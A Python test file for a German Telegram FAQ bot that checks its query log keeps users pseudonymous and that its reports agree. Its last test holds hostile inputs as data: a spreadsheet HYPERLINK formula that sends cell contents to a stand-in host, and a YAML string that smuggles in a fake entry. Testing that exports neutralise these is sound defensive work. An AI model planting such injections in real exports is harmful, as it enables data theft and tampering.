"""The query log end to end: questions, presses and votes through the bot, then the reports."""

from __future__ import annotations

import csv
import json
import shutil
import sqlite3
import subprocess
import sys
from collections import Counter
from datetime import timedelta

import pytest

from bot.engine.memory import ConversationMemory
from bot.store.database import Database, database_path
from bot.telegram.context import services

USERS = [7319024455, 7319024466, 7319024477]
GROUP = -1009876543210
QUESTIONS = [
    "Wann ist die Bewerbungsfrist?",
    "Wer darf sich bewerben?",
    "Frist Partner",
    "Wie beantrage ich Wohngeld?",
    "Wie hoch ist der Zuschuss?",
    "Gibt es Förderung für eine Wärmepumpe?",  # not right after an answer: as follow-ups they may hit one
    "Gibt es eine Förderung für Wärmepumpen?",
]


def buttons(message: dict) -> list[str]:
    markup = message.get("reply_markup") or {}
    return [b.get("callback_data", "") for row in markup.get("inline_keyboard", []) for b in row]


async def drive_the_bot(telegram, engine, before):
    """Ask, choose and vote like applicants would; return what the log must now say."""
    expected = Counter()
    memory = ConversationMemory(timedelta(minutes=engine.thresholds.follow_up_minutes))  # as the bot's, per chat
    for index, question in enumerate(QUESTIONS):
        user = USERS[index % len(USERS)]
        await telegram.send_text(user, question, user_id=user)
        reply = engine.reply(question, before, memory.previous(user, before))
        memory.remember(user, reply, before)
        expected[reply.outcome.value] += 1
    mention = "@foerder_test_bot Wann ist die Frist?"
    entities = [{"type": "mention", "offset": 0, "length": 17}]
    await telegram.send_text(GROUP, mention, chat_type="supergroup", user_id=USERS[0], entities=entities)
    expected[engine.reply("Wann ist die Frist?", before).outcome.value] += 1
    await telegram.wait_until(lambda: len(telegram.sent) >= len(QUESTIONS) + 1)

    first = telegram.sent_to(USERS[0])[0]  # the deadline answer
    await telegram.press(USERS[0], buttons(first)[-2], first["message_id"], user_id=USERS[0])  # 👍
    second = telegram.sent_to(USERS[1])[0]  # who may apply
    await telegram.press(USERS[1], buttons(second)[-1], second["message_id"], user_id=USERS[1])  # 👎
    clarify = next(m for m in telegram.sent if m["text"] == "Meinten Sie …?")
    await telegram.press(clarify["chat_id"], buttons(clarify)[0], clarify["message_id"], user_id=clarify["chat_id"])
    await telegram.wait_until(lambda: len(telegram.callback_answers) >= 3)
    await services(telegram.application.bot_data).querylog.flush()
    return expected


def run_cli(*args: str) -> subprocess.CompletedProcess:
    result = subprocess.run([sys.executable, "-m", "bot", *args], capture_output=True, text=True, timeout=60)
    assert result.returncode == 0, result.stderr
    return result


async def test_log_holds_no_raw_telegram_ids_and_reports_agree(telegram, engine, before, tmp_path):
    expected = await drive_the_bot(telegram, engine, before)
    data = telegram.data_dir

    with sqlite3.connect(database_path(data)) as connection:
        tables = [name for (name,) in connection.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
        dump = "\n".join(repr(row) for table in tables for row in connection.execute(f"SELECT * FROM {table}"))
        questions = connection.execute(
            "SELECT user_key, chat_type, language, outcome, kb_version FROM questions"
        ).fetchall()
        events = connection.execute("SELECT kind FROM events ORDER BY id").fetchall()
    for raw in [*USERS, GROUP, abs(GROUP)]:
        assert str(raw) not in dump
    assert "Anna" not in dump  # nor names
    assert len(questions) == sum(expected.values())
    assert len({key for key, *_ in questions}) == len(USERS)  # one stable pseudonym per person
    assert {chat_type for _, chat_type, *_ in questions} == {"private", "supergroup"}
    assert {version for *_, version in questions} == {engine.kb.version}
    assert sorted(kind for (kind,) in events) == ["choice", "down", "up"]

    report = json.loads(run_cli("report", "--json", "--data-dir", str(data)).stdout)
    assert report["total"] == sum(expected.values())
    assert report["outcomes"] == {o: expected[o] for o in ("answer", "clarify", "fallback")}
    assert report["feedback"] == {"up": 1, "down": 1}
    assert sum(day["total"] for day in report["per_day"]) == report["total"]
    assert report["per_day"][0]["date"] == before.date().isoformat()
    top = {e["entry"]: e for e in report["entries"]}
    assert top["frist-bewerbungsschluss"]["count"] == 2 and top["frist-bewerbungsschluss"]["up"] == 1
    assert top["wer-darf-sich-bewerben"]["down"] == 1
    # The two heat-pump questions form one cluster; the 👎 answer is in the inbox too.
    unanswered = report["unanswered"]
    assert unanswered[0]["count"] == 2 and "Wärmepumpe" in unanswered[0]["examples"][0]
    assert any(c["closest_entry"] == "wer-darf-sich-bewerben" and c["disliked"] == 1 for c in unanswered)
    assert sum(c["count"] for c in unanswered) == expected["fallback"] + 1

    table = tmp_path / "log.csv"
    run_cli("report", "--csv", str(table), "--plain", "--data-dir", str(data))
    with table.open(encoding="utf-8") as file:
        lines = list(csv.DictReader(file))
    assert len(lines) == report["total"]
    assert Counter(line["outcome"] for line in lines) == Counter(report["outcomes"])
    assert Counter(line["feedback"] for line in lines if line["feedback"]) == {"up": 1, "down": 1}
    assert sum(1 for line in lines if line["choice"]) == 1
    assert "user_key" not in lines[0]

    out = run_cli("report", "--data-dir", str(data)).stdout
    assert "Fragen pro Tag" in out and "Unbeantwortet" in out and "Wärmepumpe" in out

    suggested = run_cli("report", "suggest", "--data-dir", str(data)).stdout
    assert "wer-darf-sich-bewerben" in suggested and "Wärmepumpe" in suggested
    # the 👎 answer asks for a better answer, not for its own question as a phrasing of it
    assert "# Beantwortet mit „wer-darf-sich-bewerben“ (eligibility.yaml) und mit 👎 bewertet:" in suggested
    assert "- Wer darf sich bewerben?" not in suggested


async def test_admin_commands_show_stats_and_unanswered(telegram, engine, before):
    await drive_the_bot(telegram, engine, before)
    await telegram.send_text(7, "/stats", user_id=7)
    await telegram.send_text(7, "/unbeantwortet", user_id=7)
    stats, inbox = (m["text"] for m in await telegram.replies(7, 2))
    assert "Heute: 8 Fragen" in stats and "Gesamt: 8 Fragen" in stats and "\u00a0% Antwortquote" in stats
    assert inbox.startswith("Unbeantwortete Fragen") and "Wärmepumpe" in inbox
    before_count = len(telegram.sent_to(USERS[0]))
    await telegram.send_text(USERS[0], "/stats", user_id=USERS[0])
    reply = (await telegram.replies(USERS[0], before_count + 1))[-1]
    assert "/themen" in reply["text"]  # anyone else gets the normal help


@pytest.mark.skipif(not shutil.which("chromium"), reason="Chromium fehlt (.ci/run installiert es)")
async def test_html_report_renders_its_charts_in_headless_chromium(telegram, engine, before, tmp_path):
    await drive_the_bot(telegram, engine, before)
    page = tmp_path / "report.html"
    run_cli("report", "--html", str(page), "--data-dir", str(telegram.data_dir))
    html = page.read_text(encoding="utf-8")
    assert "http" not in html.split("<body>")[0]  # nothing loaded from elsewhere
    result = subprocess.run(
        [
            "chromium", "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
            "--no-first-run", f"--user-data-dir={tmp_path / 'profile'}", "--dump-dom", page.as_uri(),
        ],
        capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    dom = result.stdout
    assert '<svg id="per-day"' in dom and '<svg id="answer-rate"' in dom
    assert dom.count('class="bar answer"') >= 1 and dom.count('class="bar fallback"') >= 1
    assert "<polyline" in dom and "Wärmepumpe" in dom


async def test_exports_turn_no_user_text_into_formulas_or_live_yaml(tmp_path):
    import yaml
    from test_querylog import record

    from bot.store.querylog import QueryLog

    data = tmp_path / "data"
    hostile = ['=HYPERLINK("http://x.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1:A9)", "\tTab", "=1+1"]
    escape = "Förderung für Wärmepumpen?\n- id: evil\n  answer: gehackt\n#"
    log = QueryLog(Database(data))
    await log.open()
    for text in [*hostile, escape, escape]:
        log.add(record(text, outcome="fallback"))
    await log.close()
    await log.database.close()

    table = tmp_path / "log.csv"
    run_cli("report", "--csv", str(table), "--data-dir", str(data))
    with table.open(encoding="utf-8-sig") as file:  # the default export is for German Excel
        questions = [line["text"] for line in csv.DictReader(file, delimiter=";")]
    assert len(questions) == 8
    assert not [q for q in questions if q[0] in "=+-@\t\r"]
    assert "'=HYPERLINK" in "".join(questions)  # kept, but as text

    suggested = run_cli("report", "suggest", "--data-dir", str(data)).stdout
    assert "\n- id: evil" not in suggested
    phrasings = yaml.safe_load(suggested)  # the questions come back as questions, not as YAML of their own
    assert escape in phrasings and all(isinstance(p, str) for p in phrasings)
